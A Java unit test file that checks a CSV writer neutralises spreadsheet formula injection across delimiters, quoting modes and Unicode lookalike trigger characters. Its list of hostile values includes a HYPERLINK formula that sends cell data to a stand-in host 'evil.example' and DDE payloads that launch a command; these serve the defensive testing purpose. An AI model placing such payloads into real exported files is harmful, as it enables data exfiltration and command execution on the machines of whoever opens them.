package dev.sluice.batch;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import de.siegmar.fastcsv.reader.FieldMismatchStrategy;
import dev.sluice.types.Value;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FormulasTest {
    private static final String TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b";
    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff201",
            "\ufe661+1",
            "\ufe63cmd",
            " =1+1",
            "\u00a0=1+1",
            "\u3000=1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "\"=1+1\"",
            "'=1+1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=1+1,=2+2",
            "x;=1+1",
            "x|=1+1",
            "x\t=1+1",
            "x\r\n=1+1",
            "x\"\n=1+1",
            "x; \"=1+1",
            "sep=;",
            "SEP=|");

    static Stream<Arguments> files() {
        List<Arguments> files = new ArrayList<>();
        for (char delimiter : ",;\t|".toCharArray()) {
            for (boolean all : List.of(true, false)) {
                files.add(Arguments.of(delimiter, all));
            }
        }
        return files.stream();
    }

    @ParameterizedTest
    @MethodSource("files")
    void no_reader_of_the_file_sees_a_formula(char delimiter, boolean all) {
        CsvFormat format = CsvFormat.builder()
                .delimiter(delimiter)
                .qualifyAll(all)
                .header(false)
                .build();
        for (String value : HOSTILE) {
            byte[] file = Rows.of(format, List.of("a", "b", "c"), List.of(Rows.texts(value, "x" + value, value)))
                    .bytes();
            for (char other : ",;\t|".toCharArray()) {
                for (String cell : cells(new String(file, UTF_8), other)) {
                    assertThat(isSafe(cell, delimiter))
                            .as("'%s' of '%s' read by '%s'", cell, value, other)
                            .isTrue();
                }
            }
        }
    }

    /** A reader that takes another delimiter sees this file's own at the start of a cell: no text of a value. */
    private static boolean isSafe(String cell, char delimiter) {
        String shown = cell.strip();
        boolean bare = cell.isEmpty() || cell.charAt(0) == delimiter || TRIGGERS.indexOf(cell.charAt(0)) < 0;
        return bare && (shown.isEmpty() || TRIGGERS.indexOf(shown.charAt(0)) < 0);
    }

    /** As forgiving as spreadsheets are; the library will have another word for it one day. */
    @SuppressWarnings("removal")
    private static List<String> cells(String file, char delimiter) {
        return CsvReader.builder()
                .fieldSeparator(delimiter)
                .extraFieldStrategy(FieldMismatchStrategy.IGNORE)
                .missingFieldStrategy(FieldMismatchStrategy.IGNORE)
                .allowExtraCharsAfterClosingQuote(true)
                .ofCsvRecord(file)
                .stream()
                .map(CsvRecord::getFields)
                .flatMap(List::stream)
                .toList();
    }

    @Test
    void every_text_comes_back() {
        Random random = new Random(42);
        String alphabet = "=+-@'\" \t\r\n,;|a1sep=\u00a0\ufeff\uff1d\0";
        for (int run = 0; run < 20_000; run++) {
            String text = random.ints(random.nextInt(8), 0, alphabet.length())
                    .collect(StringBuilder::new, (all, i) -> all.append(alphabet.charAt(i)), StringBuilder::append)
                    .toString();
            assertThat(Formulas.original(Formulas.safe(text))).as("run %d", run).isEqualTo(text);
        }
    }

    @Test
    void ordinary_text_is_left_alone() {
        for (String text : List.of(
                "Ann",
                "ann@example.com",
                "2026-11-21",
                "O'Neil",
                "two\r\nlines",
                "a\n\nb",
                "5 - 3",
                "'quoted'",
                "1, 2; 3",
                "")) {
            assertThat(Formulas.safe(text)).isEqualTo(text);
        }
    }

    @Test
    void what_was_made_safe_is_counted() {
        Rows rows = Rows.of(CsvFormat.commas(), List.of("a", "b"), List.of(List.of(Value.text("=1"), Value.text("1"))));
        assertThat(rows.marked()).isEqualTo(1);
        CsvFormat bare = CsvFormat.builder().formulaSafe(false).build();
        assertThat(new String(
                        Rows.of(bare, List.of("a"), List.of(Rows.texts("=1"))).bytes(), UTF_8))
                .isEqualTo("a\n=1\n");
    }
}
